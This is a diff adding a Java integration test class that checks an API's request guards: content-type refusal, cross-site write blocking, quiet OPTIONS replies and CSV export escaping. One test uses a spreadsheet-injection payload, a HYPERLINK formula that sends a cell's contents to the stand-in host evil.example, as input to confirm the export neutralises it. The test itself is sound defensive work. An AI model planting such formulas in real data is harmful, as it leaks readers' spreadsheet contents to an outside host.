@@ -1,0 +1,126 @@
+package org.liaison.web.it;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+import static org.liaison.web.it.ApiFixture.HOME_HOSPITAL;
+import static org.liaison.web.it.ApiFixture.assertForbidden;
+import static org.liaison.web.it.ApiFixture.assertProblem;
+import static org.liaison.web.it.ApiFixture.id;
+import static org.liaison.web.it.ApiFixture.newAgency;
+import static org.liaison.web.it.ApiFixture.ok;
+
+import jakarta.json.Json;
+import jakarta.json.JsonObject;
+import java.net.URL;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import org.jboss.arquillian.container.test.api.Deployment;
+import org.jboss.arquillian.container.test.api.RunAsClient;
+import org.jboss.arquillian.junit5.ArquillianExtension;
+import org.jboss.arquillian.test.api.ArquillianResource;
+import org.jboss.shrinkwrap.api.spec.WebArchive;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+import org.liaison.web.it.Http.Client;
+import org.liaison.web.it.Http.Reply;
+
+/**
+ * What reaches the API at all: only the content types an endpoint documents (a cross-site form cannot post), no
+ * write from another site, no server description on OPTIONS, and a directory export that a
+ * spreadsheet cannot turn against its reader.
+ */
+@ExtendWith(ArquillianExtension.class)
+@RunAsClient
+class RequestGuardIT {
+
+    @Deployment(testable = false)
+    static WebArchive liaison() {
+        return Deployments.liaison();
+    }
+
+    @ArquillianResource
+    URL deployed;
+
+    ApiFixture demo;
+
+    @BeforeEach
+    void connect() {
+        demo = new ApiFixture(deployed);
+    }
+
+    @Test
+    void bodiesAFormCanSendAreRefusedWith415() {
+        Client manager = demo.as("manager");
+        String csv = "agency,firstName,lastName\n" + ApiFixture.PARTNER_AGENCY + ",Form,Posted\n";
+        for (String type : List.of("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
+                "TEXT/PLAIN; charset=UTF-8")) {
+            assertProblem(415, manager.sendRaw("POST", "/api/contacts/import", type, bytes(csv)));
+            assertProblem(415, manager.sendRaw("POST", "/api/agencies", type, bytes("{}")));
+        }
+        JsonObject contacts = ok(manager.get("/api/contacts?name=Posted"));
+        assertEquals(0, contacts.getInt("total"), "nothing was imported");
+    }
+
+    @Test
+    void blankGarbledOrUndocumentedContentTypesAnswer415AsProblems() {
+        Client manager = demo.as("manager");
+        for (String type : List.of("", "json", "application/xml", "text/csv")) {
+            assertProblem(415, manager.sendRaw("POST", "/api/agencies", type, bytes("{}")));
+        }
+        assertProblem(415, manager.sendRaw("POST", "/api/notifications/1/read", "text/plain", bytes("x")));
+    }
+
+    @Test
+    void writesFromAnotherSiteAreRefusedButTheSameOriginAndScriptsPass() {
+        Client manager = demo.as("manager");
+        long home = demo.facilityId(HOME_HOSPITAL);
+        byte[] body = bytes(ApiFixture.agencyBody(home).build().toString());
+        assertForbidden(manager.sendRaw("POST", "/api/agencies", "application/json", body,
+                "Sec-Fetch-Site", "cross-site"));
+        assertForbidden(manager.sendRaw("POST", "/api/agencies", "application/json", body,
+                "Origin", "https://evil.example"));
+        assertForbidden(manager.sendRaw("POST", "/api/notifications/1/read", null, null,
+                "Sec-Fetch-Site", "same-site"));
+        assertEquals(201, manager.sendRaw("POST", "/api/agencies", "application/json", body,
+                "Sec-Fetch-Site", "same-origin").status());
+        assertEquals(201, manager.sendRaw("POST", "/api/agencies", "application/json",
+                bytes(ApiFixture.agencyBody(home).build().toString())).status(), "a script sends no Origin");
+        assertEquals(200, manager.get("/api/agencies?limit=1", "Sec-Fetch-Site", "cross-site").status(),
+                "reads are not writes");
+    }
+
+    /** (That /metrics is closed in production is PrebootTest's: the test server opens it to count statements.) */
+    @Test
+    void optionsDescribesNothing() {
+        Reply options = demo.as("manager").sendRaw("OPTIONS", "/api/agencies", null, null);
+        assertFalse(options.body().contains("wadl") || options.body().toLowerCase().contains("jersey"),
+                options.toString());
+        assertEquals(200, demo.http.anonymous().getRoot("/health/ready").status(), "health stays open for probes");
+    }
+
+    @Test
+    void theDirectoryExportNeutralisesSpreadsheetFormulasButKeepsTheValue() {
+        Client manager = demo.as("manager");
+        JsonObject agency = newAgency(manager, demo.facilityId(HOME_HOSPITAL));
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")";
+        Reply created = manager.post("/api/contacts", Json.createObjectBuilder().add("agencyId", id(agency))
+                .add("firstName", "Formula").add("lastName", "Test" + ApiFixture.unique()).add("unit", formula)
+                .add("notes", "@SUM(1+1)").build());
+        assertEquals(201, created.status(), created.toString());
+        assertEquals(formula, ok(manager.get("/api/contacts/" + id(created.json()))).getString("unit"),
+                "stored as typed");
+        Reply export = manager.get("/api/contacts/export");
+        assertEquals(200, export.status());
+        String line = export.body().lines().filter(l -> l.contains(created.json().getString("lastName")))
+                .findFirst().orElseThrow();
+        assertTrue(line.contains("\"'=HYPERLINK("), line);
+        assertTrue(line.contains("'@SUM(1+1)"), line);
+        assertFalse(line.matches(".*(^|,)\"?[=@+-].*"), line);
+    }
+
+    private static byte[] bytes(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
+    }
+}
